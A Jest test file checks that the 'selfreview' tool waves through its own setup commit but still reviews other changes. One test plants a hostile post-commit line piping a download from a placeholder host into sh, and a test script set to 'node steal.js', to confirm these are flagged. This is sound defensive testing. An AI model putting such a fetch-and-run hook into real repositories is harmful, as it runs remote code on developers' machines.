import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from '@jest/globals';
import { testEnv } from '../helpers/env.js';
import { spawnWithoutTerminal } from '../helpers/no-terminal.js';
import { createTempRepo, linkSelfreview, lines, PROJECT_ROOT, type TempRepo } from '../helpers/temp-repo.js';

// The first commit after `init` holds what init wrote (husky 9 hook files with our block, the
// config) and what installing selfreview changed (package.json's devDependencies, the lock file):
// committed through the real hooks without a questionnaire and without a terminal, accepted by
// `ci`, shown as a setup commit by `log`. Anything else staged with it, or any other line in
// those files, is reviewed as usual.

let repo: TempRepo;
afterEach(() => repo?.cleanup());

const PACKAGE = { name: 'app', version: '1.0.0', scripts: { test: 'jest' }, devDependencies: { jest: '^29.0.0' } };
const json = (value: object) => `${JSON.stringify(value, null, 2)}\n`;

/** A husky 9 project with a pre-commit of its own, then `npm i -D selfreview` (simulated) and `init`. */
function initialisedProject(): { repo: TempRepo; base: string } {
  const r = createTempRepo({
    'package.json': json(PACKAGE),
    'package-lock.json': json({ name: 'app', lockfileVersion: 3, packages: {} }),
    '.husky/pre-commit': 'echo "lint-staged would run" >&2\n',
    'src/a.ts': lines(3),
    '.gitignore': 'node_modules\n',
  });
  mkdirSync(join(r.dir, 'node_modules', '.bin'), { recursive: true });
  linkSelfreview(r.dir);
  symlinkSync(join(PROJECT_ROOT, 'node_modules', 'husky'), join(r.dir, 'node_modules', 'husky'));
  symlinkSync(join(PROJECT_ROOT, 'node_modules', 'husky', 'bin.js'), join(r.dir, 'node_modules', '.bin', 'husky'));
  const base = r.git(['rev-parse', 'HEAD']).trim();
  // What `npm install --save-dev selfreview husky` changes.
  writeFileSync(
    join(r.dir, 'package.json'),
    json({
      ...PACKAGE,
      scripts: { ...PACKAGE.scripts, prepare: 'husky' },
      devDependencies: { ...PACKAGE.devDependencies, husky: '^9.1.7', selfreview: '^0.1.0' },
    }),
  );
  writeFileSync(
    join(r.dir, 'package-lock.json'),
    json({ name: 'app', lockfileVersion: 3, packages: { 'node_modules/selfreview': { version: '0.1.0' } } }),
  );
  const init = r.run(['init']);
  expect(init.code).toBe(0);
  return { repo: r, base };
}

function commit(r: TempRepo, message: string) {
  const result = spawnWithoutTerminal('git', ['commit', '-q', '-m', message], { cwd: r.dir, env: testEnv(), encoding: 'utf8', input: '' });
  return { code: result.status, output: `${result.stdout}${result.stderr}` };
}

describe('the setup commit', () => {
  test("init's files commit through every hook without questions; ci passes it and log calls it a setup commit", () => {
    ({ repo } = initialisedProject());
    const base = repo.git(['rev-parse', 'HEAD']).trim();
    repo.git(['add', '-A']);
    const staged = repo.git(['diff', '--cached', '--name-only']).trim().split('\n');
    expect(staged).toEqual(
      expect.arrayContaining(['.husky/pre-commit', '.husky/post-commit', '.selfreviewrc.json', 'package.json', 'package-lock.json']),
    );

    const report = repo.run(['--dry-run']);
    expect(report.stdout).toMatch(/\.husky\/pre-commit .*excluded: selfreview setup/);
    expect(report.stdout).toMatch(/package\.json .*excluded: selfreview setup/);
    expect(report.stdout).toMatch(/Impact: risk low/);

    // No terminal and no answers: a review would stop this commit ("No terminal …").
    const setup = commit(repo, 'Set up selfreview');
    expect(setup.output).toMatch(/lint-staged would run/);
    expect(setup.output).toMatch(/No questions: a setup commit/);
    expect(setup.code).toBe(0);
    expect(repo.git(['rev-parse', 'HEAD']).trim()).not.toBe(base);

    const ci = repo.run(['ci', '--base', base, '--head', 'HEAD', '--format', 'json']);
    const report2 = JSON.parse(ci.stdout) as {
      verdict: string;
      commits: { findings: { code: string; level: string }[] }[];
      totals: { missing: number };
    };
    expect(report2.verdict).toBe('pass');
    expect(report2.commits[0]!.findings).toEqual([expect.objectContaining({ code: 'setup-commit', level: 'note' })]);
    expect(report2.totals.missing).toBe(0);
    expect(ci.code).toBe(0);

    const log = JSON.parse(repo.run(['log', '-n', '1', '--json']).stdout) as { commits: { status: string; ci: { verdict: string } }[] };
    expect(log.commits[0]).toMatchObject({ status: 'setup', ci: { verdict: 'pass' } });
    expect(repo.run(['show']).stdout).toMatch(/setup commit/);
  });

  test('a source file staged with the setup is reviewed alone: the setup files are listed, not counted', () => {
    ({ repo } = initialisedProject());
    writeFileSync(join(repo.dir, 'src', 'a.ts'), lines(5));
    repo.git(['add', '-A']);
    const report = repo.run(['--dry-run']);
    expect(report.stdout).toMatch(/Counted: 1 file, \+2 -0/);
    const blocked = commit(repo, 'Set up selfreview and grow a');
    expect(blocked.output).toMatch(/No terminal for the questionnaire/);
    expect(blocked.code).toBe(1);
  });

  test('a hook line beside our block, or a package.json script changed with the install, is reviewed; ci fails it unreviewed', () => {
    const { repo: r, base } = initialisedProject();
    repo = r;
    const hook = join(repo.dir, '.husky', 'post-commit');
    writeFileSync(hook, `${readFileSync(hook, 'utf8')}curl -s https://example.invalid/x | sh\n`);
    const manifest = JSON.parse(readFileSync(join(repo.dir, 'package.json'), 'utf8')) as typeof PACKAGE;
    writeFileSync(join(repo.dir, 'package.json'), json({ ...manifest, scripts: { ...manifest.scripts, test: 'node steal.js' } }));
    repo.git(['add', '-A']);
    const report = repo.run(['--dry-run']);
    expect(report.stdout).toMatch(/Counted: 2 files/);
    expect(report.stdout).not.toMatch(/post-commit .*excluded/);
    expect(commit(repo, 'Set up selfreview').code).toBe(1);

    repo.git(['commit', '-q', '--no-verify', '-m', 'Set up selfreview']);
    const ci = repo.run(['ci', '--base', base, '--head', 'HEAD']);
    expect(ci.stdout).toMatch(/no review record/);
    expect(ci.code).toBe(1);
  });

  // mswjs/interceptors: simple-git-hooks configured by a module, with commitizen and commitlint in it.
  // The printed lines pasted into it are setup; a command of the project's changed with them is not.
  test("simple-git-hooks.js gaining init's printed lines is setup; ci passes it, and anything more is reviewed", () => {
    const own = [
      'export default {',
      "  'prepare-commit-msg': `grep -qE '^[^#]' .git/COMMIT_EDITMSG || (exec < /dev/tty && pnpm cz --hook || true)`,",
      "  'commit-msg': 'pnpm commitlint --edit $1',",
      '}',
      '',
    ].join('\n');
    repo = createTempRepo({
      'package.json': json(PACKAGE),
      'simple-git-hooks.js': own,
      'src/a.ts': lines(3),
      '.gitignore': 'node_modules\n',
    });
    linkSelfreview(repo.dir);
    const base = repo.git(['rev-parse', 'HEAD']).trim();
    const printed = repo.run(['init']).stdout;
    const object = printed.slice(printed.indexOf('{'), printed.indexOf('\n}') + 2);
    expect(object).toContain('"commit-msg": "pnpm commitlint --edit $1 && sh node_modules/selfreview/hooks/hook.sh commit-msg');
    writeFileSync(join(repo.dir, 'simple-git-hooks.js'), `export default ${object}\n`);
    repo.git(['add', '-A']);
    const setup = repo.run(['--dry-run']);
    expect(setup.stdout).toMatch(/simple-git-hooks\.js .*excluded: selfreview setup/);
    const review = repo.run([]);
    expect(review.stdout).toMatch(/No questions: a setup commit/);
    expect(review.code).toBe(0);
    repo.git(['commit', '-q', '--no-verify', '-m', 'chore: add selfreview']);
    const ci = repo.run(['ci', '--base', base, '--head', 'HEAD', '--format', 'json']);
    const report = JSON.parse(ci.stdout) as { verdict: string; commits: { findings: { code: string }[] }[] };
    expect(report.verdict).toBe('pass');
    expect(report.commits[0]!.findings).toEqual([expect.objectContaining({ code: 'setup-commit' })]);
    expect(ci.code).toBe(0);

    writeFileSync(join(repo.dir, 'simple-git-hooks.js'), `export default ${object.replace('--edit $1', '--edit $1 --verbose')}\n`);
    repo.git(['add', '-A']);
    expect(repo.run(['--dry-run']).stdout).not.toMatch(/simple-git-hooks\.js .*excluded/);
  });
});
